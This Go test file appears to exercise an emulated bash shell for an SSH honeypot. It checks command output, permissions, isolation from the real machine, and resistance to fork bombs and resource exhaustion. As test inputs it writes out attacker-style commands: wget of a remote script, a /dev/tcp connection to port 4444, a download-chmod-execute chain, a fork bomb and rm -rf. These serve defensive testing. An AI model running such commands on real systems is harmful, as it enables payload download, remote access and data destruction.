package shell

import (
	"bytes"
	"context"
	"errors"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
	"testing/synctest"
	"time"
)

func newTestShell(user string) *Shell {
	now := time.Date(2026, 5, 4, 3, 2, 1, 0, time.UTC)
	return New(Config{
		Hostname: "web-3", User: user, Release: ReleaseOf("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10"),
		Address: netip.MustParseAddr("10.77.3.4"), Client: netip.MustParseAddr("10.9.0.1"),
		Now: func() time.Time { return now }, Boot: now.Add(-30 * 24 * time.Hour),
	})
}

// say runs a command and gives what it writes, both streams together.
func say(t testing.TB, s *Shell, source string) string {
	t.Helper()
	var out bytes.Buffer
	if err := s.Execute(context.Background(), source, Streams{strings.NewReader(""), &out, &out}); err != nil {
		t.Fatalf("%q: %v", source, err)
	}
	return out.String()
}

func TestCommands(t *testing.T) {
	for _, c := range []struct{ source, want string }{
		{"whoami", "root\n"},
		{"id", "uid=0(root) gid=0(root) groups=0(root)\n"},
		{"uname -a", "Linux web-3 6.1.0-37-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.140-1 (2025-05-22) x86_64 GNU/Linux\n"},
		{"uname -s -v -n -r -m", "Linux web-3 6.1.0-37-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.140-1 (2025-05-22) x86_64\n"},
		{"pwd; cd /etc && pwd; cd - >/dev/null; pwd", "/root\n/etc\n/root\n"},
		{"echo hello    world", "hello world\n"},
		{`echo -e "\x6F\x6B"`, "ok\n"},
		{"nproc", "2\n"},
		{"cat /proc/cpuinfo | grep name | wc -l", "2\n"},
		{"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", "Intel(R) Xeon(R) Gold 6248R CPU @\n"},
		{"cat /etc/hostname", "web-3\n"},
		{"nonsense", "-bash: nonsense: command not found\n"},
		{"nonsense; echo $?", "-bash: nonsense: command not found\n127\n"},
		{"cat /nothing", "cat: /nothing: No such file or directory\n"},
		{"ls /root", ""},
		{"ls -d /etc /tmp", "/etc\n/tmp\n"},
		{"for i in 1 2 3; do echo -n $i; done; echo", "123\n"},
		{"for f in /etc/host*; do echo $f; done", "/etc/hostname\n/etc/hosts\n"},
		{"i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i", "3\n"},
		{"for ((i=0;i<3;i++)); do echo -n $i; done", "012"},
		{"if [ -f /etc/passwd ]; then echo yes; else echo no; fi", "yes\n"},
		{"[[ -d /nope || 1 -eq 1 ]] && echo yes", "yes\n"},
		{"case abc in a*) echo a;; *) echo other;; esac", "a\n"},
		{"f() { echo $1-$#; return 3; }; f x y; echo $?", "x-2\n3\n"},
		{"while true; do break; done; echo out", "out\n"},
		{"for i in 1 2; do for j in 1 2; do continue 2; done; echo never; done; echo end", "end\n"},
		{"(cd /etc; x=1); pwd; echo [$x]", "/root\n[]\n"},
		{"x=5 env | grep ^x=", "x=5\n"},
		{"echo $(echo inner) `echo tick`", "inner tick\n"},
		{"cat <<E\na $HOME\nE", "a /root\n"},
		{"cat <<< word", "word\n"},
		{"echo {a,b}{1,2}", "a1 a2 b1 b2\n"},
		{"echo ${HOME#/} ${NOPE:-none} ${#USER}", "root none 4\n"},
		{"echo text > /tmp/x; cat /tmp/x; wc -c < /tmp/x; rm /tmp/x; cat /tmp/x", "text\n5\ncat: /tmp/x: No such file or directory\n"},
		{"echo a > /tmp/y; echo b >> /tmp/y; cat /tmp/y", "a\nb\n"},
		{"cd /tmp; printf '#!/bin/sh\\necho ran $1\\n' > run; ./run; chmod +x run; ./run now", "-bash: ./run: Permission denied\nran now\n"},
		{"echo 'echo from script $1' | bash -s; bash -c 'echo $0-$1' a b", "from script\nbash-b\n"},
		{"echo aGVsbG8K | base64 -d", "hello\n"},
		{"echo hello | md5sum", "b1946ac92492d2347c6235b4d2611184  -\n"},
		{"printf '%s-%d\\n' a 1 b 2", "a-1\nb-2\n"},
		{"echo c b a b | tr ' ' '\\n' | sort -u | tr -d '\\n'", "abc"},
		{"seq 3 | tail -n 1; seq 5 | sed 's/3/x/' | head -3", "3\n1\n2\nx\n"},
		{"yes | head -n 2", "y\ny\n"},
		{"cat /etc/passwd | cut -d: -f1 | head -2", "root\ndaemon\n"},
		{"which ls wget; type cd", "/usr/bin/ls\n/usr/bin/wget\ncd is a shell builtin\n"},
		{"busybox echo ok; /bin/busybox NOPE", "ok\nNOPE: applet not found\n"},
		{"unset HISTFILE; export A=b; echo $A", "b\n"},
		{"sh -c 'exit 7'; echo $?", "7\n"},
		{"ls /bin/ls && /bin/echo path", "/bin/ls\npath\n"},
		{"echo x | while read line; do echo got $line; done", "got x\n"},
		{"echo one two three | xargs echo -", "- one two three\n"},
		{"cat < /nope", "-bash: /nope: No such file or directory\n"},
		{"ls nope 2>/dev/null || echo failed", "failed\n"},
		{"echo err >&2", "err\n"},
		{"eval 'echo $((6*7))'", "42\n"},
		{"! false && echo negated", "negated\n"},
		{"cd /nope", "-bash: cd: /nope: No such file or directory\n"},
		{"export PS1='x'; hostname -I", "10.77.3.4\n"},
		{"cat <(echo x)", "-bash: cannot make pipe for process substitution: Too many open files\n"},
		{"echo $(", "-bash: syntax error"},
	} {
		s := newTestShell("root")
		var out bytes.Buffer
		err := s.Execute(context.Background(), c.source, Streams{strings.NewReader(""), &out, &out})
		if errors.Is(err, ErrIncomplete) && strings.HasPrefix(c.want, "-bash: syntax error") {
			continue
		}
		if got := out.String(); got != c.want {
			t.Errorf("%s\n got %q\nwant %q", c.source, got, c.want)
		}
	}
}

// An ordinary user may less.
func TestPermissions(t *testing.T) {
	s := newTestShell("deploy")
	for source, want := range map[string]string{
		"id":                        "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy)\n",
		"cat /etc/shadow":           "cat: /etc/shadow: Permission denied\n",
		"echo x > /etc/passwd":      "-bash: /etc/passwd: Permission denied\n",
		"rm /etc/passwd":            "rm: cannot remove '/etc/passwd': Permission denied\n",
		"ls /root":                  "ls: cannot open directory '/root': Permission denied\n",
		"cd /root":                  "-bash: cd: /root: Permission denied\n",
		"echo x > ~/a && cat ~/a":   "x\n",
		"touch /tmp/b && ls /tmp/b": "/tmp/b\n",
	} {
		if got := say(t, s, source); got != want {
			t.Errorf("%s\n got %q\nwant %q", source, got, want)
		}
	}
	if got := s.Prompt(); got != "deploy@web-3:~$ " {
		t.Errorf("the prompt is %q", got)
	}
}

// Nothing of the real machine is seen or changed.
func TestNothingIsReal(t *testing.T) {
	dir := t.TempDir()
	real := filepath.Join(dir, "real")
	if err := os.WriteFile(real, []byte("secret"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BOCAGE_TEST_SECRET", "secret")
	s := newTestShell("root")
	for _, source := range []string{
		"cat " + real, "cat < " + real, "ls " + dir, "echo " + dir + "/*", "source " + real, "bash " + real, "[ -e " + real + " ] && echo secret",
		"[[ -f " + real + " ]] && echo secret", "cd " + dir + " && echo secret", "echo $BOCAGE_TEST_SECRET", "env | grep secret$", "find / -name real",
		"echo ~nobody", "dd if=" + real, "cp " + real + " /tmp/a; cat /tmp/a", "stat " + real, "cat /proc/self/environ", "cat /proc/self/cmdline",
		"exec cat " + real, "echo $(<" + real + ")", "mapfile x < " + real + "; echo $x",
	} {
		if got := say(t, s, source); strings.Contains(strings.ReplaceAll(got, source, ""), "secret") || strings.Contains(got, "/nonexistent") {
			t.Errorf("%s: %q", source, got)
		}
	}
	say(t, s, "rm -rf "+dir+"; echo changed > "+real+"; chmod 777 "+real+"; mv "+real+" /tmp/z; rm -rf /tmp")
	if got, err := os.ReadFile(real); err != nil || string(got) != "secret" {
		t.Errorf("the real file is now %q, %v", got, err)
	}
}

// Whatever is typed ends, soon, and within memory.
func TestBombsFizzle(t *testing.T) {
	doubling := "x=aaaaaaaaaaaaaaaa; " + strings.Repeat("x=$x$x; ", 40) + "echo ${#x}"
	for name, source := range map[string]string{
		"endless loop":           "while :; do :; done",
		"endless output":         "while :; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done",
		"yes":                    "yes",
		"fork bomb":              ":(){ :|:& };:",
		"recursion":              "f() { f; }; f",
		"recursion by eval":      "x='eval $x'; eval $x",
		"recursion by script":    "echo '. /tmp/s' > /tmp/s; . /tmp/s",
		"recursion by bash":      "echo 'bash /tmp/s' > /tmp/s; bash /tmp/s",
		"braces":                 "echo {1..1000000000}",
		"braces of braces":       "echo {1..1000}{1..1000}{1..1000}",
		"seq":                    "seq 1 1000000000",
		"doubling":               doubling,
		"replacement":            "x=" + strings.Repeat("a", 4000) + `; y=${x//a/$x}; echo ${y//a/$x}${y//a/$x}${y//a/$x}${y//a/$x}`,
		"wide printf":            "printf %1000000000d 1",
		"wide printf by a star":  "printf '%*d' 1000000000 1",
		"many wide printfs":      "while :; do printf %9999d 1; done",
		"long pipe":              strings.Repeat("cat /etc/passwd | ", 2000) + "cat",
		"substitutions":          strings.Repeat("$(", 500) + "echo" + strings.Repeat(")", 500),
		"arithmetic":             "echo $((2**9223372036854775807))",
		"self-referring":         "x=x; echo $((x))",
		"arithmetic loop":        "for ((;;)); do ((i++)); done",
		"files":                  "for i in {1..10000}; do echo aaaaaaaaaaaaaaaaaaaaa > /tmp/$i; done",
		"one file":               "while :; do cat /tmp/a /etc/passwd > /tmp/b; cp /tmp/b /tmp/a; done",
		"variables":              "for i in {1..10000}; do eval v$i=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done",
		"regular expression":     "[[ " + strings.Repeat("a", 1000) + " =~ (a*)*(a*)*(a*)*(a*)*b ]]",
		"big regular expression": "[[ a =~ ((a{1000}){1000}){1000} ]]",
		"glob":                   "echo /*/*/*/*/*/*/* /*/*/*/*/*/*/* /*/*/*/*/*/*/*",
		"nesting":                strings.Repeat("(", 5000) + "echo" + strings.Repeat(")", 5000),
		"history":                "history -c; history",
	} {
		t.Run(name, func(t *testing.T) {
			s := newTestShell("root")
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			var out bytes.Buffer
			if err := s.Execute(context.Background(), source, Streams{strings.NewReader(""), &out, &out}); err != nil && !errors.Is(err, ErrIncomplete) {
				t.Fatal(err)
			}
			if took := time.Since(start); took > 20*time.Second {
				t.Errorf("took %s", took)
			}
			runtime.ReadMemStats(&after)
			if grown := int64(after.Sys) - int64(before.Sys); grown > 256<<20 {
				t.Errorf("took %d MB", grown>>20)
			}
			if out.Len() > maxOutput+1024 {
				t.Errorf("wrote %d bytes", out.Len())
			}
			if got := say(t, s, "echo alive"); got != "alive\n" {
				t.Errorf("afterwards the shell says %q", got)
			}
		})
	}
}

// The parser follows nesting by recursion, which must not be what ends the
// process: Go's stack overflow cannot be recovered from.
func TestNestingHasAnEnd(t *testing.T) {
	defer debug.SetMaxStack(debug.SetMaxStack(16 << 20))
	for _, open := range []string{"(", "$(", "{ ", "if ", "! ", "`", "((", "$((", "${a:-", "\"$(", "case x in x) ", "while ", "[[ ( ", "[[ ! ", "a=(", "f() ",
		"$((-", "$((1+", "a|", "a&&", "a||", "{a,", "$((a?", "${a[", "time ", "coproc ", "for i in a;do ", "if a;then ", "while a;do ", "let x=-", "<(", "{a,b}", "{1..9}", "a;", "a&"} {
		for _, before := range []string{"", "echo $((", "echo {", "[[ "} {
			for _, n := range []int{99, (MaxSource - 10) / len(open), 4 * MaxSource / len(open)} {
				s := newTestShell("root")
				start := time.Now()
				var out bytes.Buffer
				err := s.Execute(context.Background(), before+strings.Repeat(open, n), Streams{strings.NewReader(""), &out, &out})
				if err != nil && !errors.Is(err, ErrIncomplete) {
					t.Fatal(err)
				}
				if took := time.Since(start); took > 10*time.Second {
					t.Errorf("%q and %d times %q took %s", before, n, open, took)
				}
			}
		}
	}
}

// Pauses are as long as asked, up to a bound, and end with the session.
func TestPauses(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newTestShell("root")
		for source, want := range map[string]time.Duration{
			"sleep 2": 2 * time.Second, "sleep 1; sleep 1": 2 * time.Second, "sleep 1000": maxPause, "sleep 0.5": time.Second / 2,
			"wget http://198.51.100.7/x.sh": 5 * time.Second, "cat < /dev/tcp/198.51.100.7/4444": maxPause,
		} {
			start := time.Now()
			say(t, s, source)
			if took := time.Since(start); took != want {
				t.Errorf("%s took %s, want %s", source, took, want)
			}
		}
	})
}

func TestIncompleteAndEnd(t *testing.T) {
	s := newTestShell("root")
	for _, source := range []string{"for i in 1 2", "if true; then", "echo 'a", "cat <<E\na", "echo a |", "{ "} {
		if err := s.Execute(context.Background(), source, Streams{strings.NewReader(""), &bytes.Buffer{}, &bytes.Buffer{}}); !errors.Is(err, ErrIncomplete) {
			t.Errorf("%q: %v", source, err)
		}
	}
	if _, done := s.Done(); done {
		t.Error("the shell ended by itself")
	}
	say(t, s, "exit 3")
	if status, done := s.Done(); !done || status != 3 {
		t.Errorf("after exit 3: %d, %t", status, done)
	}
}

func FuzzExecute(f *testing.F) {
	for _, seed := range []string{
		"echo hi", "cd /tmp || cd /var/run; wget http://198.51.100.7/a; chmod 777 a; ./a", "for i in *; do cat $i; done", "${x//a/b}", "((1/0))",
		"a=(1 2 3); echo ${a[@]}", "[[ a =~ ( ]]", "<>x >&2 2>&1 &>y cat", "f(){ f; };f|f&", "echo {1..3}", "let x=1", "declare -A m", "printf '%s' a b",
		"tr a-z A-Z", "cut -d, -f1-", "awk '{print $1}'", "sed s/a/b/", "test a -o", "[ ! ]", "read a b <<< 'x y'", "time ls", "select x in a; do break; done",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if strings.Contains(source, "sleep") || len(source) > 4096 {
			return
		}
		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
		defer cancel()
		s := newTestShell("root")
		var out bytes.Buffer
		err := s.Execute(ctx, source, Streams{strings.NewReader("some\ninput\n"), &out, &out})
		if err != nil && !errors.Is(err, ErrIncomplete) {
			t.Fatal(err)
		}
		if out.Len() > maxOutput+1024 {
			t.Errorf("wrote %d bytes", out.Len())
		}
		if len(s.panics) > 0 {
			t.Errorf("panicked: %s", s.panics)
		}
	})
}
